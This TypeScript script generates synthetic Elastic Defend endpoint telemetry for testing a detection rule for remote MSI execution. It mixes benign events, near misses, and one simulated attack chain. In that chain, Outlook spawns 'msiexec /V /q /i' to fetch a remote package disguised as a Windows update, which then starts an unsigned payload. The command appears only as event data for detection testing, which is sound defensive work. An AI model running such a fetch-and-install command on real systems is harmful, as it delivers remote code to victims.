/**
 * Writes examples/msiexec-remote-install.ndjson: about two thousand benign Elastic Defend-shaped
 * events over half an hour (the benchmark's generator, re-timed), one attack of the seed rule
 * ("Potential Remote File Execution via MSIEXEC": msiexec /V installs a remote package, connects
 * out, and starts an unsigned payload), near misses the rule must not alert on (a signed vendor
 * installer, a payload more than a minute later), and a few events delivered out of order.
 *
 * Deterministic: `npx tsx scripts/make-example.ts` reproduces the committed file.
 */
import { writeFileSync } from "node:fs";
import { generateEvents, mulberry32 } from "../bench/generate.js";

const OUT = new URL("../examples/msiexec-remote-install.ndjson", import.meta.url);
const START = Date.parse("2026-11-20T09:00:00.000Z");
const SPAN_MS = 30 * 60_000;
const rnd = mulberry32(20261120);

const benign = generateEvents({ events: 2000, attackSequences: 0, seed: 99 }).lines.map((l) => JSON.parse(l) as Record<string, unknown>);
benign.forEach((e, i) => {
  // 100 ns ticks, as Elastic Defend writes them.
  const ms = START + Math.floor((i / benign.length) * SPAN_MS);
  e["@timestamp"] = new Date(ms).toISOString().replace("Z", `${String(Math.floor(rnd() * 10_000)).padStart(4, "0")}Z`);
});

const host = {
  id: "5b7e29f1-43a2-4b1e-9c55-0d6a1c2f7e31", name: "WIN-FIN-07", hostname: "win-fin-07", ip: ["10.20.30.40"],
  os: { type: "windows", family: "windows", name: "Windows 11 Pro", platform: "windows", version: "23H2" },
};
const user = { id: "S-1-5-21-1004336348-1177238915-682003330-1105", name: "jdoe", domain: "CORP" };
const agent = { id: "8f4c1f0e-8d7b-4a51-a0e0-1c1b0cfb1e11", type: "endpoint" };
const ds = (dataset: string) => ({ type: "logs", dataset, namespace: "default" });
let seq = 900_000;
const at = (offsetMs: number) => new Date(START + 12 * 60_000 + offsetMs).toISOString();

function msiexecChain(prefix: string, t: number, child: Record<string, unknown>, childDelayMs: number, remote: string): Record<string, unknown>[] {
  const msiexec = `${prefix}-msiexec`;
  return [
    {
      "@timestamp": at(t), agent, host, user, data_stream: ds("endpoint.events.process"), message: "Endpoint process event",
      event: { id: `${prefix}-1`, kind: "event", category: ["process"], type: ["start"], action: "start", dataset: "endpoint.events.process", module: "endpoint", sequence: seq++ },
      process: {
        entity_id: msiexec, pid: 6120, name: "msiexec.exe", executable: "C:\\Windows\\System32\\msiexec.exe",
        args: ["C:\\Windows\\System32\\msiexec.exe", "/V", "/q", "/i", `http://${remote}/update/KB5034441.msi`],
        command_line: `msiexec.exe /V /q /i http://${remote}/update/KB5034441.msi`,
        code_signature: { subject_name: "Microsoft Windows", trusted: true, exists: true, status: "trusted" },
        hash: { sha256: "5b3b9c0d1a2e8f7c6d5e4f3a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c" },
        parent: { entity_id: `${prefix}-outlook`, pid: 4410, name: "OUTLOOK.EXE", executable: "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE" },
        Ext: { token: { integrity_level_name: "medium" } },
      },
    },
    {
      "@timestamp": at(t + 1800), agent, host, user, data_stream: ds("endpoint.events.network"), message: "Endpoint network event",
      event: { id: `${prefix}-2`, kind: "event", category: ["network"], type: ["start"], action: "connection_attempted", dataset: "endpoint.events.network", module: "endpoint", sequence: seq++ },
      process: { entity_id: msiexec, pid: 6120, name: "msiexec.exe", executable: "C:\\Windows\\System32\\msiexec.exe" },
      network: { direction: "egress", transport: "tcp", type: "ipv4" },
      source: { ip: "10.20.30.40", port: 51234 },
      destination: { ip: remote, port: 80 },
    },
    {
      "@timestamp": at(t + childDelayMs), agent, host, user, data_stream: ds("endpoint.events.process"), message: "Endpoint process event",
      event: { id: `${prefix}-3`, kind: "event", category: ["process"], type: ["start"], action: "start", dataset: "endpoint.events.process", module: "endpoint", sequence: seq++ },
      process: {
        entity_id: `${prefix}-child`, pid: 7344,
        parent: { entity_id: msiexec, pid: 6120, name: "msiexec.exe", executable: "C:\\Windows\\System32\\msiexec.exe" },
        Ext: { token: { integrity_level_name: "medium" } },
        ...child,
      },
    },
  ];
}

const attack = msiexecChain("attack", 0, {
  name: "KB5034441.exe", executable: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe",
  args: ["C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe", "--silent"],
  command_line: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI8F2A.tmp\\KB5034441.exe --silent",
  hash: { sha256: "e3b7f5a1c9d2e4f6a8b0c2d4e6f8a0b2c4d6e8f0a2b4c6d8e0f2a4b6c8d0e2f4" },
  // no code_signature at all: an unsigned payload
}, 6500, "185.220.101.45");
const vendor = msiexecChain("vendor", 4 * 60_000, {
  name: "setup.exe", executable: "C:\\Program Files\\Contoso\\Agent\\setup.exe",
  args: ["C:\\Program Files\\Contoso\\Agent\\setup.exe"],
  code_signature: { subject_name: "Contoso Ltd.", trusted: true, exists: true, status: "trusted" },
}, 5000, "198.51.100.20");
const slow = msiexecChain("slow", 8 * 60_000, {
  name: "helper.exe", executable: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\helper.exe", args: ["C:\\Users\\jdoe\\AppData\\Local\\Temp\\helper.exe"],
}, 75_000, "198.51.100.21");

const all = [...benign, ...attack, ...vendor, ...slow].sort((a, b) => String(a["@timestamp"]).localeCompare(String(b["@timestamp"])));
// Forwarders deliver some events late: move every 40th event up to two minutes later in the file.
for (let i = all.length - 1; i >= 0; i -= 40) {
  const [e] = all.splice(i, 1);
  const ts = Date.parse(String(e!["@timestamp"]));
  let j = i;
  while (j < all.length && Date.parse(String(all[j]!["@timestamp"])) < ts + rnd() * 120_000) j++;
  all.splice(j, 0, e!);
}
// The attack's child process arrives after a few later events, as a late delivery would.
const childAt = all.findIndex((e) => (e.event as { id?: string }).id === "attack-3");
const [child] = all.splice(childAt, 1);
all.splice(childAt + 25, 0, child!);

writeFileSync(OUT, all.map((e) => JSON.stringify(e)).join("\n") + "\n");
console.log(`wrote ${all.length} events to ${OUT.pathname}`);
